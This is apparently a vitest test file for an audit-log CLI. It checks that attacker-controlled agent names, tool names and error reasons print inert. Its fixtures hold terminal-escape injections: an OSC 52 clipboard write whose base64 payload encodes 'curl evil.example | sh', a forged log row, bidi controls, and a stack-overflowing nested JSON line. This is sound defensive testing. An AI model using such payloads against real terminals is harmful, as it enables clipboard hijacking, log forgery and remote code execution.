// What agents, upstreams or anyone who wrote a log line chose reaches the operator's terminal inert,
// and a crafted line cannot stop a listing; separate so audit.test.ts keeps to the command's features.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { createAuditRecord } from '../audit/record.js';
import { openAuditWriter } from '../audit/writer.js';
import { tempDir } from '../../test/helpers/tmp.js';
import { fixture, MIN, NOW, run } from '../../test/helpers/audit-cli.js';

describe('tollgate audit', () => {
  it('prints what agents and upstreams wrote inert: no terminal escapes, no forged rows', async () => {
    // An agent calling an unknown tool gets its name (and "Unknown tool: <name>") into the log as it
    // sent it; agent ids come from JWT claims, reasons from upstream errors.
    const dir = tempDir('audit-cli-hostile-');
    const w = await openAuditWriter({ destination: { path: join(dir, 'tollgate-audit.jsonl') } });
    const clipboard = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'; // OSC 52: writes the clipboard
    const forged = '\r\x1b[2K2025-03-10 11:59:00.000  alice  tools/call  github__search  allowed  ok';
    await w.append(
      createAuditRecord({
        timestamp: new Date(NOW - MIN).toISOString(),
        'service.instance.id': 'gw',
        'gen_ai.agent.id': `eve${forged}`,
        'tollgate.auth.method': 'jwt',
        'mcp.method.name': 'tools/call',
        'gen_ai.tool.name': `github__x${clipboard}\u202e\u009b2J`,
        'tollgate.upstream.name': 'github',
        'tollgate.decision': 'denied',
        'tollgate.decision_reason': `Unknown tool: x\n${forged}`,
        'tollgate.outcome': 'jsonrpc_error',
        'tollgate.latency.total_ms': 1,
      }),
    );
    await w.close();
    // Anything a terminal acts on: C0 (but the table's own newlines), DEL, C1, bidi controls.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
    const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
    for (const tty of [false, true]) {
      const list = await run([dir], { isTTY: tty });
      expect(list.code).toBe(0);
      // Colour codes are ours (on a TTY); none of the agent's.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: our own colour codes
      expect(list.out.replace(/\x1b\[[0-9;]*m/g, '')).not.toMatch(control);
      expect(list.out.trimEnd().split('\n')).toHaveLength(2); // the header and one row
    }
    // Shown, not acted on: the REASON column is printed whole.
    expect((await run([dir])).out).toContain('Unknown tool: x\\n\\r\\u001b[2K2025-03-10');
    const stats = await run(['stats', dir]);
    expect(stats.out).not.toMatch(control);
    expect(stats.out).toContain('github__x\\u001b]52;c;');
    expect(stats.out).not.toMatch(/^2025-03-10/m); // no line of the agent's making
    // JSON output stays the same JSON (C1 and bidi controls spelled as \u escapes).
    for (const args of [
      [dir, '--json'],
      ['stats', dir, '--json'],
    ]) {
      const j = await run(args);
      expect(j.out).not.toMatch(control);
      expect(j.out).toContain('\\u202e');
    }
    const line = JSON.parse((await run([dir, '--json'])).out) as Record<string, unknown>;
    expect(line['gen_ai.tool.name']).toBe(`github__x${clipboard}\u202e\u009b2J`);
  });

  it('skips a crafted line nested too deep to print, rather than failing the listing', async () => {
    // Parsed, a line of 100 000 nested arrays overflows the stack where it is printed (--json, the
    // admin page's record details): one such line in the log would stop every listing that reaches it.
    const dir = await fixture();
    const file = join(dir, 'tollgate-audit.jsonl');
    const deep = `{"timestamp":"2025-03-10T11:59:30.000Z","gen_ai.agent.id":"mallory","tollgate.request.arguments":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    writeFileSync(file, `${readFileSync(file, 'utf8')}${deep}\n`);
    const r = await run([dir, '--json']);
    expect(r.err).toBe('warning: skipped 1 line(s) that are not JSON records\n');
    expect(r.code).toBe(0);
    expect(r.out.trim().split('\n')).toHaveLength(5);
    const { readAuditPage } = await import('../admin/audit-api.js');
    const { RecordRows } = await import('../admin/records.js');
    const page = await readAuditPage(file, { limit: 10 });
    expect(page.records).toHaveLength(5);
    expect(String(await RecordRows({ records: page.records }))).toContain('carol');
  });
});
